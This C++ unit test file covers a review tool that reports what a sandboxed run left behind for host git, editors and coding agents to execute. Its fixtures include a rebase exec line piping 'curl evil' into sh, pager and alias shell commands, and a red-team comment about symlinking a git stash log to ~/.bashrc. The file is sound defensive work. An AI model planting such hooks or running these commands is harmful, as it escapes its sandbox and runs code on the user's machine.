#include "review/review.h"

#include <gtest/gtest.h>

#include "git/dir_shape.h"

namespace paddock::review {
namespace {

const std::string kProject = "/p";

bool Has(const std::vector<Finding>& f, const std::string& kind, const std::string& text) {
  for (const auto& x : f)
    if (x.kind == kind && x.detail.find(text) != std::string::npos) return true;
  return false;
}

TEST(Review, NewRepositoriesWithWhatTheyWouldRun) {
  Snapshot before, after;
  before.git_entries = {"/p/old/.git"};
  after.git_entries = {"/p/old/.git", "/p/sub/.git", "/p/link/.git"};
  after.traits["/p/sub/.git"] =
      AnalyzeRepo("[core]\n\tfsmonitor = ./x\n[alias]\n\tst = status\n", {"post-checkout", "pre-commit.sample"});
  RepoTraits link;
  link.symlink = true;
  link.pointer = "../fake";
  after.traits["/p/link/.git"] = link;
  after.module_git_dirs = {"/p/.git/modules/m"};
  auto f = Compare(before, after, kProject);
  EXPECT_TRUE(Has(f, "new-repository", "at sub/ (host git will run: hook post-checkout, core.fsmonitor)"));
  EXPECT_TRUE(Has(f, "new-repository", "symbolic link to ../fake"));
  EXPECT_TRUE(Has(f, "new-repository", "submodule git dir) .git/modules/m"));
  EXPECT_FALSE(Has(f, "new-repository", "old/"));
  EXPECT_EQ(f.size(), 3u);
}

// A directory git takes for a git dir is a bare repository to git run
// inside it: a new one is reported, and so is a commondir or config that
// appears in one present at the start; other changes in one are not.
TEST(Review, BareRepositoriesMadeOrRedirected) {
  using namespace git;
  Snapshot before, after;
  const uint32_t bare = kHead | kObjects | kRefs;
  before.bare_git_dirs = {{"/p/fixture.git", bare | kConfig}, {"/p/quiet.git", bare}, {"/p/busy.git", bare | kConfig}};
  after.bare_git_dirs = {{"/p/fixture.git", bare | kConfig | kCommondir},
                         {"/p/quiet.git", bare | kConfig},
                         {"/p/busy.git", bare | kConfig},
                         {"/p/src", bare | kConfig},
                         {"/p", kHead | kCommondir}};
  after.traits["/p/src"] = AnalyzeRepo("[core]\n\tpager = sh x\n", {});
  after.traits["/p/quiet.git"] = AnalyzeRepo("[alias]\n\tl = !sh y\n", {});
  auto f = Compare(before, after, kProject);
  EXPECT_TRUE(Has(f, "new-repository", "at src/ (host git will run: core.pager)")) << f.size();
  EXPECT_TRUE(Has(f, "new-repository", "at the project itself"));
  EXPECT_TRUE(Has(f, "bare-repository-changed", "fixture.git/ gained a commondir"));
  EXPECT_TRUE(Has(f, "bare-repository-changed", "quiet.git/ gained a config (host git will run: alias.l)"));
  EXPECT_FALSE(Has(f, "bare-repository-changed", "busy.git"));
  EXPECT_EQ(f.size(), 4u);
  EXPECT_FALSE(BareRepoChanged(before, "/p/busy.git", bare | kConfig));
  EXPECT_TRUE(BareRepoChanged(before, "/p/new", bare));
}

TEST(Review, NewlyHiddenIndexEntriesOnly) {
  Snapshot before, after;
  const std::string idx = "/p/.git/index";
  before.hidden[idx] = {std::string("skip-worktree") + '\0' + "sparse.txt"};
  after.hidden[idx] = {std::string("skip-worktree") + '\0' + "sparse.txt",
                       std::string("assume-unchanged") + '\0' + "src/a.c"};
  auto f = Compare(before, after, kProject);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].path, "src/a.c");
  EXPECT_NE(f[0].detail.find("git update-index --no-assume-unchanged src/a.c"), std::string::npos);
}

TEST(Review, ExecLinesOfUnfinishedRebases) {
  EXPECT_EQ(TodoExecLines("pick 1 a\n  exec make test\nx curl evil | sh\nedit 2 b\n"),
            (std::set<std::string>{"exec make test", "x curl evil | sh"}));
  Snapshot before, after;
  const std::string todo = "/p/.git/rebase-merge/git-rebase-todo";
  before.todo_exec[todo] = {"exec make test"};
  after.todo_exec[todo] = {"exec make test", "x curl evil | sh"};
  auto f = Compare(before, after, kProject);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_TRUE(Has(f, "todo-exec", "\"x curl evil | sh\""));
}

// git makes no symbolic links in a git dir; host git writes through one
// (red team, stop 44: .git/logs/refs/stash -> ~/.bashrc, then `git stash`).
TEST(Review, SymlinksLeftInGitDirs) {
  Snapshot before, after;
  before.git_symlinks["/p/.git/logs/HEAD"] = "/p/elsewhere";
  after.git_symlinks = before.git_symlinks;
  after.git_symlinks["/p/.git/logs/refs/stash"] = "/home/u/.bashrc";
  auto f = Compare(before, after, kProject);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_TRUE(Has(f, "git-symlink", ".git/logs/refs/stash is a symbolic link to /home/u/.bashrc"));
  EXPECT_TRUE(f[0].runs_code);
  after.git_symlinks["/p/.git/logs/HEAD"] = "/home/u/.profile";  // re-pointed
  EXPECT_EQ(Compare(before, after, kProject).size(), 2u);
}

// A repository nested deeper than the walk looks cannot be seen: the
// directories the run made too deep are a finding of their own, once.
TEST(Review, DirectoriesTooDeepToLookInto) {
  Snapshot before, after;
  before.too_deep = {"/p/old/deep"};
  after.too_deep = {"/p/old/deep", "/p/d/d/d"};
  auto f = Compare(before, after, kProject);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_TRUE(Has(f, "too-deep", "below d/d/d/ are nested too deeply"));
  EXPECT_TRUE(f[0].runs_code);
}

// The project or a directory above a protected path made group- or
// world-writable: another local user could plant hooks there.
TEST(Review, DirectoriesMadeWritableForOthers) {
  Snapshot before, after;
  before.modes = {{"/p", 0755}, {"/p/.git", 0755}, {"/p/shared", 0775}};
  after.modes = {{"/p", 0777}, {"/p/.git", 0755}, {"/p/shared", 0775}};
  auto f = Compare(before, after, kProject);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_TRUE(Has(f, "made-writable", "the project was made writable by every user"));
  EXPECT_TRUE(Has(f, "made-writable", "chmod go-w /p"));
  after.modes["/p"] = 0755;
  after.modes["/p/.git"] = 0775;
  f = Compare(before, after, kProject);
  EXPECT_TRUE(Has(f, "made-writable", ".git/ was made writable by its group"));
}

// Agent and editor config below the root: a new entry, and one whose
// fingerprint moved, run code when the user works there; unchanged, removed
// and unfingerprinted ones are not reported, those left unchecked once.
TEST(Review, AgentConfigCreatedOrChangedBelowTheRoot) {
  Snapshot before, after;
  before.agent_configs = {{"/p/pkg/.mcp.json", "a 1"},
                          {"/p/same/.vscode", "d 2"},
                          {"/p/gone/.envrc", "f 3"},
                          {"/p/late/.claude", "absent"},
                          {"/p/many/.idea", ""}};
  after.agent_configs = {{"/p/pkg/.mcp.json", "a 9"},  {"/p/same/.vscode", "d 2"}, {"/p/app/.claude", ""},
                         {"/p/late/.claude", "d 4"},   {"/p/many/.idea", ""},      {"/p/raced/.envrc", "absent"},
                         {"/p/a/b/rust-toolchain", ""}};
  after.agent_configs_unchecked = 1;
  auto f = Compare(before, after, kProject);
  EXPECT_TRUE(Has(f, "agent-config",
                  "app/.claude was created (Claude Code started in app/ runs the hooks and MCP servers it names): "
                  "check it before you work in app/"));
  EXPECT_TRUE(Has(f, "agent-config", "pkg/.mcp.json was changed (Claude Code started in pkg/ starts the MCP"));
  EXPECT_TRUE(Has(f, "agent-config", "late/.claude was created"));
  EXPECT_TRUE(Has(f, "agent-config",
                  "a/b/rust-toolchain was created (rustup runs the toolchain it names for "
                  "cargo and rustc in a/b/)"));
  EXPECT_FALSE(Has(f, "agent-config", "same/"));
  EXPECT_FALSE(Has(f, "agent-config", "gone/"));
  EXPECT_FALSE(Has(f, "agent-config", "many/"));
  EXPECT_FALSE(Has(f, "agent-config", "raced/"));
  EXPECT_TRUE(Has(f, "agent-config-unchecked", "1 agent or editor config entries below the project were not checked"));
  ASSERT_EQ(f.size(), 5u);
  for (const auto& x : f) EXPECT_EQ(x.runs_code, x.kind == "agent-config") << x.detail;
  after.agent_configs_unchecked = 0;
  after.agent_configs.erase("/p/pkg/.mcp.json");
  EXPECT_EQ(Compare(before, after, kProject).size(), 3u) << "a removed one is not reported";
}

// At the project root, the snapshots hold only config the plan does not
// protect (a name protected only while present was missing, --unprotect):
// one the run created there, or changed, is reported for the project.
TEST(Review, AgentConfigCreatedOrChangedAtAnUnprotectedRoot) {
  Snapshot before, after;
  before.agent_configs = {{"/p/.vscode", "d 1"}, {"/p/.mise.toml", "f 2"}};
  after.agent_configs = {
      {"/p/.vscode", "d 5"}, {"/p/.mise.toml", "f 2"}, {"/p/.aider.conf.yml", "f 3"}, {"/p/opencode.json", "f 4"}};
  auto f = Compare(before, after, kProject);
  EXPECT_TRUE(Has(f, "agent-config",
                  ".aider.conf.yml was created (aider started in the project runs the lint-cmd and test-cmd it "
                  "names): check it before you work in the project"));
  EXPECT_TRUE(Has(f, "agent-config",
                  "opencode.json was created (opencode started in the project starts the MCP servers and loads the "
                  "plugins it names)"));
  EXPECT_TRUE(Has(f, "agent-config", ".vscode was changed (VS Code opened in the project runs tasks"));
  EXPECT_FALSE(Has(f, "agent-config", ".mise.toml"));
  ASSERT_EQ(f.size(), 3u);
  for (const auto& x : f) EXPECT_TRUE(x.runs_code) << x.detail;
}

TEST(Review, NothingChangedNothingReported) {
  Snapshot s;
  s.git_entries = {"/p/a/.git"};
  s.hidden["/p/.git/index"] = {std::string("skip-worktree") + '\0' + "x"};
  s.agent_configs = {{"/p/app/.vscode", "d 1"}};
  EXPECT_TRUE(Compare(s, s, kProject).empty());
}

}  // namespace
}  // namespace paddock::review
